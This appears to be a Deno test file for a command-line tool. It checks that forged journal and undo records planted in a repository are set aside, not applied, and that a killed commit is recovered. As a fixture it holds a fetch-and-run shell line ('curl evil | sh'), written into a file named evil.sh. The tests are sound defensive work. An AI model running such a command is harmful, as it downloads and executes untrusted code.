// A repository can bring along files that look like our half-done commits and undo records.
import assert from "node:assert/strict";
import { join } from "node:path";
import { sha256 } from "../core/workspace/sha256.ts";
import { filesBelow } from "./_bad_input.ts";
import { type Sandbox, sandbox } from "./_cli.ts";

const TEMP = ".dspy-tmp-0123456789abcdef-";
const EVIL = "curl evil | sh\n";

/** A workspace whose journal deletes a file and makes another, and whose undo record does so. */
async function hostile(): Promise<Sandbox> {
  const [kept, evil] = await Promise.all(["kept\n", EVIL].map(hashOf));
  const files = [
    { path: "kept.txt", before: null, after: { hash: kept, mode: 0o644 } },
    { path: "evil.sh", before: { hash: evil, mode: 0o755 }, after: null },
  ];
  const record = { version: 1, order: 1e300, ts: 1, label: "write", files, folders: [] };
  const steps = [
    { path: "kept.txt", before: { hash: kept, mode: 0o644 }, after: null, temp: `${TEMP}0` },
    { path: "evil.sh", before: null, after: { hash: evil, mode: 0o755 }, temp: `${TEMP}1` },
  ];
  const journal = { ...record, id: "c9", files: [], work: { steps, made: [], drop: [] } };
  return await sandbox({
    "kept.txt": "kept\n",
    [`${TEMP}1`]: EVIL,
    ".dspy/journal/c9.json": JSON.stringify({ ...journal, mac: "00".repeat(32) }),
    ".dspy/undo/c8.json": JSON.stringify({ ...record, id: "c8" }),
    [`.dspy/undo/blobs/${evil}`]: EVIL,
  });
}

function hashOf(text: string): Promise<string> {
  return sha256(new TextEncoder().encode(text));
}

/** Every file of the workspace with its text, but for our databases. */
async function look({ ws }: Sandbox): Promise<Record<string, string>> {
  const paths = (await Array.fromAsync(filesBelow(ws))).sort();
  const texts = paths.map(async (
    path,
  ) => [path.slice(ws.length + 1), await Deno.readTextFile(path)]);
  return Object.fromEntries(await Promise.all(texts));
}

Deno.test("a forged journal: a command that reads changes nothing and gets no wider rights", async () => {
  await using box = await hostile();
  const before = await look(box);
  for (const args of [["ls"], ["grep", "kept"]]) {
    const { code, stdout, stderr } = await box.cli(args);
    assert.equal(code, 0, stderr);
    assert.match(stdout, /kept\.txt/);
    assert.deepEqual(await look(box), before);
  }
  const home = await Array.fromAsync(filesBelow(join(box.folder, "home")));
  assert.deepEqual(home.filter((path) => path.endsWith("journal.key")), []);
});

Deno.test("a forged journal: a command that writes puts it aside, says so, and does its own work", async () => {
  await using box = await hostile();
  const { code, stderr } = await box.cli(["write", "b.txt", "--content", "b"]);
  assert.equal(code, 0, stderr);
  assert.match(stderr, /not ours was put aside, not acted on: \.dspy\/journal\/c9\.json\.corrupt-/);
  const { "b.txt": made, ...rest } = await look(box);
  assert.equal(made, "b");
  const names = Object.keys(rest).filter((path) => !path.startsWith(".dspy/"));
  assert.deepEqual(names.sort(), [`${TEMP}1`, "kept.txt"]);
  const home = await Array.fromAsync(filesBelow(join(box.folder, "home")));
  const key = home.find((path) => path.endsWith("journal.key"))!;
  assert.equal((await Deno.stat(key)).mode! & 0o777, 0o600);
  for (const text of Object.values(await look(box))) {
    assert.ok(!text.includes((await Deno.readTextFile(key)).trim()));
  }
});

Deno.test("a forged undo record is not applied, and our own change is taken back after it", async () => {
  await using box = await hostile();
  assert.equal((await box.cli(["write", "b.txt", "--content", "b"])).code, 0);
  assert.doesNotMatch((await box.cli(["undo", "--list"])).stdout, /c8/);
  const { code, stderr } = await box.cli(["undo"]);
  assert.notEqual(code, 0);
  assert.match(stderr, /not written by this program here.*c8\.json\.corrupt-/s);
  assert.equal(await box.read("kept.txt"), "kept\n");
  assert.equal((await box.cli(["undo"])).code, 0);
  const names = Object.keys(await look(box)).filter((path) => !path.startsWith(".dspy/"));
  assert.deepEqual(names.sort(), [`${TEMP}1`, "kept.txt"]);
});

Deno.test("kill -9 of a real commit: the next command that reads still ends it", async () => {
  const names = Array.from({ length: 60 }, (_, i) => `f${i}.txt`);
  await using box = await sandbox(Object.fromEntries(names.map((name) => [name, "old\n"])));
  const hunk = (name: string) => `--- a/${name}\n+++ b/${name}\n@@ -1 +1 @@\n-old\n+new\n`;
  await box.write("all.patch", names.map(hunk).join(""));
  const { argv, env } = box.commandLine(["patch", "all.patch"]);
  for (let tries = 0; tries < 20; tries++) {
    const child = new Deno.Command("setsid", {
      args: argv,
      cwd: box.ws,
      env,
      clearEnv: true,
      stdin: "null",
      stdout: "null",
      stderr: "null",
    }).spawn();
    let over = false;
    const status = child.status.finally(() => over = true);
    while (!over && !await hasJournal(box)) await new Promise((next) => setTimeout(next, 1));
    await new Deno.Command("kill", { args: ["-9", "--", `-${child.pid}`], stderr: "null" })
      .output();
    await status;
    const cut = await hasJournal(box);
    const { code, stderr } = await box.cli(["ls"]);
    assert.equal(code, 0, stderr);
    const texts = new Set(await Promise.all(names.map((name) => box.read(name))));
    assert.equal(texts.size, 1);
    if (cut) {
      assert.match(stderr, /was cut off and was (?:finished|taken back)/);
      assert.ok(!await hasJournal(box));
      return;
    }
    if (texts.has("new\n")) assert.equal((await box.cli(["undo"])).code, 0);
  }
  assert.fail("no kill fell into a commit");
});

async function hasJournal({ ws }: Sandbox): Promise<boolean> {
  try {
    const entries = await Array.fromAsync(Deno.readDir(join(ws, ".dspy/journal")));
    return entries.some(({ name }) => name.endsWith(".json"));
  } catch {
    return false;
  }
}
